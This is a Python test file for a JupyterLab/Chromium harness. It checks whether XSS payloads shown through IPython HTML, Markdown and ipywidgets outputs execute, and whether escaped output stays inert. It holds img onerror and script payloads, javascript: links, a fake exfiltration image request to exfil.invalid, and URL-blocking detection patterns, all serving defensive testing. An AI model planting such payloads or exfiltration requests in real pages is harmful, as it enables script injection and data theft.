"""Validate the JupyterLab/Chromium harness with plain IPython outputs.

Positive controls prove the detector sees script that *does* run; the negative
control proves an escaped payload is reported as inert and stays visible.
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

import pytest

from . import lab as lab_mod
from .lab import LabResult, LabServer, run_notebook_in_lab, write_notebook

PAYLOAD = "<img src=x onerror=\"window.__pwned=1;document.title='PWNED'\">"

browser = pytest.mark.browser


def payload(flag: str, title: str) -> str:
    return f"<img src=x onerror=\"window.{flag}=1;document.title='{title}'\">"


# Cell sources: payloads go in as Python literals so quoting can't break them.
SHOW_HTML = f"from IPython.display import HTML, Markdown, display\ndisplay(HTML({PAYLOAD!r}))"
SHOW_MARKDOWN = (
    f"display(Markdown({payload('__pwned_md', 'PWNED-MD')!r}))\n"
    "display(Markdown('<script>window.__pwned_md_script=1</script>'))"
)
SHOW_WIDGET = (
    f"import ipywidgets\ndisplay(ipywidgets.HTML({payload('__pwned_widget', 'PWNED-WIDGET')!r}))"
)
SHOW_ESCAPED = (
    "import html, sys\n"
    "from IPython.display import HTML, display\n"
    f"payload = {PAYLOAD!r}\n"
    "display(HTML('<pre>' + html.escape(payload) + '</pre>'))\n"
    "print(payload)\n"
    "print('kernel python:', sys.executable)"
)


def _run(lab: LabServer, browser_: object, nb: Path, **kw: object) -> LabResult:
    res = run_notebook_in_lab(lab, nb, browser=browser_, timeout=90, **kw)  # type: ignore[arg-type]
    assert all(isinstance(c, int) for c in res.execution_counts), res.describe()
    assert not res.lab_dialogs, res.describe()
    return res


# --------------------------------------------------------------------------
# Positive controls: the detector sees script that runs.  One notebook, one
# canary flag per cell, so each cell's result is told apart.
# --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def positive_run(lab_server, lab_browser, tmp_path_factory) -> LabResult:
    tmp = tmp_path_factory.mktemp("positive")
    nb = write_notebook(tmp / "positive.ipynb", [SHOW_HTML, SHOW_MARKDOWN, SHOW_WIDGET])
    res = _run(lab_server, lab_browser, nb)
    print(f"positive notebook: {res.seconds:.1f}s {res.timings}")
    return res


@browser
def test_positive_control_html_onerror_runs(positive_run):
    res = positive_run
    assert res.script_ran, res.describe()
    assert res.flags.get("__pwned") == 1, res.describe()
    # JupyterLab often (not always) resets document.title soon after a
    # payload set it, so the harness checks the whole title history.
    assert res.title_changed
    assert "PWNED" in res.titles_seen, res.describe()


@browser
def test_markdown_output_onerror_and_script_run_too(positive_run):
    # Observed on JupyterLab 4.6: outputs produced by executing a cell are
    # trusted, so text/markdown is rendered without sanitizing and its raw
    # HTML (img onerror, even <script>) runs.  ipychat must not rely on
    # Markdown() to neutralise model output.
    res = positive_run
    assert res.flags.get("__pwned_md") == 1, res.describe()
    assert res.flags.get("__pwned_md_script") == 1, res.describe()
    assert "PWNED-MD" in res.titles_seen, res.describe()


@browser
def test_ipywidgets_html_value_runs_too(positive_run):
    # The widget view is rendered (the harness waits for it) and
    # ipywidgets.HTML puts its value in as HTML: onerror runs.
    res = positive_run
    assert res.flags.get("__pwned_widget") == 1, res.describe()
    assert "PWNED-WIDGET" in res.titles_seen, res.describe()
    assert set(res.flags) == {"__pwned", "__pwned_md", "__pwned_md_script", "__pwned_widget"}


@browser
def test_detects_dialogs_javascript_links_and_exfiltration(lab_server, lab_browser, tmp_path):
    cells = [
        # A JS dialog is recorded (and dismissed, so the run doesn't block).
        "from IPython.display import HTML, display\n"
        "display(HTML('<img src=x onerror=\"alert(\\'xss-alert\\')\">'))",
        # JupyterLab adds target=_blank rel=noopener to HTML links; Chromium
        # then opens a blank popup and does NOT run the javascript: URL.
        "display(HTML('<a href=\"javascript:void(window.__pwned_a=1)\">html link</a>'))",
        # SVG links get no target, so clicking one runs it in the page.
        'display(HTML(\'<svg width=200 height=30><a href="javascript:void(window.__pwned_svg=1)">'
        '<text x="5" y="20">svg link</text></a></svg>\'))',
        # Requests leaving loopback are aborted and reported.
        "display(HTML('<img src=\"http://exfil.invalid/leak.png?d=secret\">'))",
    ]
    nb = write_notebook(tmp_path / "detectors.ipynb", cells)
    res = _run(lab_server, lab_browser, nb)
    print(f"detectors notebook: {res.seconds:.1f}s {res.timings}")
    assert [d["message"] for d in res.dialogs] == ["xss-alert"], res.describe()
    assert res.dialogs[0]["type"] == "alert"
    assert res.javascript_links == [
        "javascript:void(window.__pwned_a=1)",
        "javascript:void(window.__pwned_svg=1)",
    ], res.describe()
    assert res.clicked_links == res.javascript_links
    assert res.flags == {"__pwned_svg": 1}, res.describe()
    assert res.popups == ["about:blank"], res.describe()
    # Chromium retries a failed image load, so the same URL may appear twice.
    assert set(res.external_requests) == {"http://exfil.invalid/leak.png?d=secret"}


# --------------------------------------------------------------------------
# Negative control: the same payload, escaped, is inert and visible.
# --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def escaped_run(lab_server, lab_browser, tmp_path_factory) -> LabResult:
    tmp = tmp_path_factory.mktemp("escaped")
    nb = write_notebook(tmp / "escaped.ipynb", [SHOW_ESCAPED])
    res = _run(lab_server, lab_browser, nb, screenshot=tmp / "escaped.png")
    print(f"escaped notebook: {res.seconds:.1f}s {res.timings}")
    return res


@browser
def test_negative_control_escaped_payload_is_inert(escaped_run):
    res = escaped_run
    assert not res.script_ran, res.describe()
    assert res.flags == {} and res.dialogs == [] and not res.title_changed
    assert res.title == res.initial_title
    assert res.links == [] and res.external_requests == [] and res.page_errors == []
    # Shown once as HTML-escaped text and once as a print() stream.
    assert res.outputs[0].strip() == PAYLOAD, res.describe()
    assert res.output_text.count(PAYLOAD) == 2, res.describe()
    assert "<img" not in "".join(res.output_html)


@browser
def test_kernel_runs_this_interpreter(escaped_run):
    assert f"kernel python: {sys.executable}" in escaped_run.output_text, escaped_run.describe()


@browser
def test_screenshot_is_a_real_png(escaped_run):
    shot = escaped_run.screenshot
    assert shot is not None and shot.is_file()
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])
    assert (width, height) == (1280, 900)
    assert len(data) > 20_000, f"suspiciously small screenshot: {len(data)} bytes"


# --------------------------------------------------------------------------
# Harness internals that need no browser.
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("javascript:alert(1)", True),
        ("  JaVaScRiPt:alert(1)", True),
        ("java\tscript:alert(1)", True),
        ("\x01javascript:alert(1)", True),  # leading C0 controls are stripped
        ("javascript\n:alert(1)", True),
        ("https://example.org/javascript:x", False),
        ("#javascript:", False),
    ],
)
def test_is_javascript_url(href, expected):
    assert lab_mod._is_javascript_url(href) is expected


@pytest.mark.parametrize(
    ("url", "blocked"),
    [
        ("http://127.0.0.1:8888/lab", False),
        ("ws://127.0.0.1:8888/api/kernels/x/channels", False),
        ("http://localhost/x", False),
        ("http://[::1]:1/", False),
        ("http://127.0.0.1", False),
        ("data:image/png;base64,AAAA", False),
        ("blob:http://127.0.0.1:1/uuid", False),
        ("http://exfil.invalid/x", True),
        ("https://10.0.0.1/x", True),
        ("http://127.0.0.1.evil.invalid/", True),
        ("http://127.0.0.1@evil.invalid/", True),
        ("http://localhost:80@evil.invalid/", True),
        ("wss://evil.invalid/socket", True),
    ],
)
def test_non_loopback_pattern(url, blocked):
    assert bool(lab_mod.NON_LOOPBACK_URL.search(url)) is blocked


def test_missing_chromium_skips_locally_and_fails_in_ci(monkeypatch):
    monkeypatch.setattr(lab_mod, "CHROMIUM", Path("/nonexistent/chromium"))
    monkeypatch.delenv("CI", raising=False)
    with pytest.raises(pytest.skip.Exception, match="chromium"):
        lab_mod.require_browser_stack()
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="CI is set"):
        lab_mod.require_browser_stack()
